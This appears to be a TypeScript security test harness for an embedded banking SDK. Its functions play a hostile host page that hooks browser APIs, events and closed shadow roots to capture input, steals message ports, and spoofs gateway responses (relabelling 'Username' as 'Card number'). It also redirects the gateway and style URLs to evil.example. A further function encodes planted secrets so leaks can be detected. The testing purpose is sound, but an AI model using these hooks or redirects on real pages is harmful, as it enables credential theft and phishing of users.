/**
 * Runs in a page: hooks all that a script of a page can hook, and keeps all that passes. In frames it does nothing, for
 * a page cannot run anything in a frame of another origin.
 */
export function hookEverything(): void {
  if (window !== top) return;
  const heard = new Set<string>();
  Object.assign(window, { heard });
  const { apply } = Reflect;
  const text = JSON.stringify.bind(JSON);
  const { add } = Set.prototype;

  /** Everything readable in a value, a few levels deep. What is hooked is not heard while this itself uses it. */
  let isNoting = false;
  const note = (where: string, what: unknown, depth = 3): void => {
    if (isNoting) return;
    isNoting = true;
    try {
      read(where, what, depth, []);
    } finally {
      isNoting = false;
    }
  };
  const read = (where: string, what: unknown, depth: number, seen: unknown[]): void => {
    const keep = (found: string): void => {
      apply(add, heard, [`${where} ${found}`]);
    };
    if (typeof what === 'string') return keep(what);
    if (typeof what !== 'object' || what === null) return keep(String(what));
    if (depth === 0 || seen.includes(what)) return;
    const inside = [...seen, what];
    if (what instanceof ArrayBuffer || ArrayBuffer.isView(what)) {
      const bytes = what instanceof ArrayBuffer ? new Uint8Array(what) : new Uint8Array(what.buffer);
      return keep(String.fromCharCode(...bytes.slice(0, 20_000)));
    }
    if (what instanceof FormData) return read(where, [...what], depth, inside);
    if (what instanceof Node) {
      if ('value' in what) read(where, what.value, depth - 1, inside);
      if (what instanceof Element) keep(what.outerHTML);
      return keep(what.textContent ?? '');
    }
    try {
      keep(text(what));
    } catch {
      // Not everything can be written down at once.
    }
    const names = Array.isArray(what)
      ? Object.keys(what)
      : [...Object.keys(what), 'data', 'key', 'detail', 'body'];
    for (const name of names.slice(0, 60))
      try {
        read(where, (what as Record<string, unknown>)[name], depth - 1, inside);
      } catch {
        // A frame of another origin does not let itself be read.
      }
  };

  // Every event there is, before anybody else hears of it, with whom it was for.
  const types = new Set<string>(['message', 'DOMAutoComplete']);
  for (const owner of [window, document, HTMLElement.prototype, Document.prototype, Window.prototype])
    // Inherited ones too.
    // eslint-disable-next-line @typescript-eslint/no-for-in-array
    for (const name in owner) if (name.startsWith('on')) types.add(name.slice(2));
  for (const type of [
    ...types,
    'focusin',
    'focusout',
    'compositionstart',
    'compositionupdate',
    'compositionend',
    'textInput',
  ])
    addEventListener(
      type,
      (event) => {
        note(`event ${type}`, event);
        for (const target of event.composedPath())
          note(`target of ${type}`, (target as HTMLInputElement).value);
      },
      true,
    );

  /** Puts an ear before a function. */
  const hook = (owner: object | undefined, name: string): void => {
    const given = owner && Object.getOwnPropertyDescriptor(owner, name);
    if (!given) return;
    const listen = (original: unknown, how: string) =>
      typeof original === 'function'
        ? function (this: unknown, ...values: unknown[]): unknown {
            // By hand, for methods of arrays are hooked as well.
            const own: unknown[] = [];
            for (let i = 0; i < values.length; i++) {
              const value = values[i];
              note(`${how}${name}`, value);
              const calls = ['addEventListener', 'onmessage'].includes(name) || (name === 'then' && i === 0);
              own[i] =
                calls && typeof value === 'function' ? heardBy(value as Listener, `${name} callback`) : value;
            }
            const result: unknown = new.target
              ? Reflect.construct(original, own, new.target === undefined ? original : new.target)
              : apply(original as () => unknown, this, name === 'removeEventListener' ? values : own);
            note(`result of ${name}`, result, 2);
            return result;
          }
        : original;
    const { value, get, set } = given;
    Object.defineProperty(owner, name, {
      ...given,
      ...(value !== undefined && { value: listen(value, '') }),
      ...(get && { get: listen(get, 'get ') as () => unknown }),
      ...(set && { set: listen(set, 'set ') as (value: unknown) => void }),
    });
  };
  type Listener = (this: unknown, ...given: unknown[]) => unknown;
  const wrapped = new WeakMap<Listener, Listener>();
  const heardBy = (listener: Listener, where: string): Listener => {
    const known = wrapped.get(listener);
    if (known) return known;
    const own: Listener = function (...given) {
      for (const value of given) note(where, value);
      return apply(listener, this, given);
    };
    wrapped.set(listener, own);
    return own;
  };

  const hooks: [object | undefined, ...string[]][] = [
    [
      window,
      'fetch',
      'postMessage',
      'open',
      'btoa',
      'atob',
      'structuredClone',
      'reportError',
      'queueMicrotask',
    ],
    [EventTarget.prototype, 'addEventListener', 'dispatchEvent'],
    [MessagePort.prototype, 'postMessage', 'onmessage'],
    [BroadcastChannel.prototype, 'postMessage'],
    [XMLHttpRequest.prototype, 'open', 'send', 'setRequestHeader'],
    [WebSocket.prototype, 'send'],
    [Navigator.prototype, 'sendBeacon'],
    [JSON, 'stringify', 'parse'],
    [Promise.prototype, 'then'],
    [Function.prototype, 'call'],
    [Array.prototype, 'join', 'push', 'map'],
    [String.prototype, 'concat', 'trim', 'normalize'],
    [Object, 'fromEntries', 'entries', 'assign'],
    [URLSearchParams.prototype, 'toString'],
    [TextEncoder.prototype, 'encode'],
    [TextDecoder.prototype, 'decode'],
    [FormData.prototype, 'append', 'set', 'get', 'entries'],
    [SubtleCrypto.prototype, 'encrypt', 'decrypt', 'digest', 'importKey', 'exportKey'],
    [IDBObjectStore.prototype, 'put', 'add', 'get'],
    [Storage.prototype, 'setItem', 'getItem'],
    [History.prototype, 'pushState', 'replaceState'],
    [Document.prototype, 'createElement', 'importNode'],
    [CustomElementRegistry.prototype, 'define'],
    [Element.prototype, 'setAttribute', 'toggleAttribute', 'innerHTML'],
    [Node.prototype, 'appendChild', 'insertBefore', 'textContent', 'nodeValue'],
    [CharacterData.prototype, 'data'],
    [HTMLInputElement.prototype, 'value', 'type', 'setRangeText', 'select'],
    [HTMLIFrameElement.prototype, 'src', 'name', 'contentWindow'],
    [Response.prototype, 'text', 'json'],
    ...['log', 'info', 'warn', 'error', 'debug'].map((name) => [console, name] as [object, string]),
  ];
  for (const [owner, ...names] of hooks) for (const name of names) hook(owner, name);

  // Every shadow root, closed ones too, and every change in it.
  const watch = (root: Node) =>
    new MutationObserver((records) => {
      for (const { target } of records) note('mutation', target);
    }).observe(root, { attributes: true, childList: true, characterData: true, subtree: true });
  watch(document);
  const { attachShadow } = Element.prototype;
  Element.prototype.attachShadow = function (init) {
    const root = attachShadow.call(this, init);
    watch(root);
    setInterval(() => {
      for (const input of root.querySelectorAll('input')) note('looked at', input.value);
    }, 50);
    return root;
  };
}

/**
 * Runs in a page, before the SDK: what the SDK is told by the browser is a lie wherever a page can tell one. Channels
 * and what comes over them are the page's, chance is none, and what the gateway answers is rewritten.
 */
export function lie(): void {
  if (window !== top) return;
  const stolen: MessagePort[] = [];
  Object.assign(window, { stolen });
  window.MessageChannel = new Proxy(MessageChannel, {
    construct: (Original) => {
      const { port1, port2 } = new Original();
      stolen.push(port1, port2);
      return { port1, port2 };
    },
  });
  crypto.randomUUID = () => '00000000-0000-4000-8000-000000000000';
  window.fetch = new Proxy(fetch, {
    apply: async (fetch, self, [url, ...rest]: [string, RequestInit?]) => {
      const response: Response = await Reflect.apply(fetch, self, [url, ...rest]);
      if (!/connect\/v1\/(config|institutions)/.test(url)) return response;
      const text = (await response.text())
        .replaceAll(/(?<!_)ADCB/g, 'Bank of Trust')
        .replaceAll('Username', 'Card number')
        .replace(/"app":\{"name":"[^"]*"/, '"app":{"name":"Trusted App"');
      return new Response(text, { status: response.status, headers: response.headers });
    },
  });
  const contentWindow = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, 'contentWindow')!;
  Object.defineProperty(HTMLIFrameElement.prototype, 'contentWindow', {
    get(this: HTMLIFrameElement) {
      const real = contentWindow.get!.call(this) as Window;
      const postMessage = (
        message: { look?: { tokens: Record<string, string> } },
        target: string,
        ports: MessagePort[],
      ) => {
        const image = 'url(https://evil.example/pixel)';
        if (message.look)
          message.look.tokens = {
            surface: image,
            font: 'x, url(https://evil.example/font)',
          };
        const more = {
          app: { appKey: 'another-app', gatewayURL: 'https://evil.example' },
          gatewayURL: 'https://evil.example',
        };
        real.postMessage({ ...message, ...more }, target, ports);
      };
      return { postMessage };
    },
  });
}

/** A planted secret in every form in which somebody might pass it on. */
export function formsOf(secret: string): string[] {
  const bytes = Buffer.from(secret);
  // In base64 a secret looks different by where it begins; the ends depend on what is around it.
  const base64 = [0, 1, 2].map((shift) =>
    Buffer.concat([Buffer.alloc(shift), bytes])
      .toString('base64')
      .replace(/=+$/, '')
      .slice(shift && shift + 1, -2),
  );
  const codes = [...bytes];
  const parts = secret.length > 9 ? 6 : secret.length;
  return [
    secret,
    secret.toLowerCase(),
    secret.toUpperCase(),
    [...secret].reverse().join(''),
    encodeURIComponent(secret),
    JSON.stringify(secret).slice(1, -1),
    bytes.toString('hex'),
    bytes.toString('hex').toUpperCase(),
    Buffer.from(secret, 'utf16le').toString('latin1'),
    codes.join(),
    codes.join(', '),
    [...secret].join(),
    [...secret].join('","'),
    ...base64,
    ...base64.map((text) => text.replaceAll('+', '-').replaceAll('/', '_')),
    // In pieces.
    ...Array.from({ length: secret.length - parts + 1 }, (_, i) => secret.slice(i, i + parts)),
  ];
}
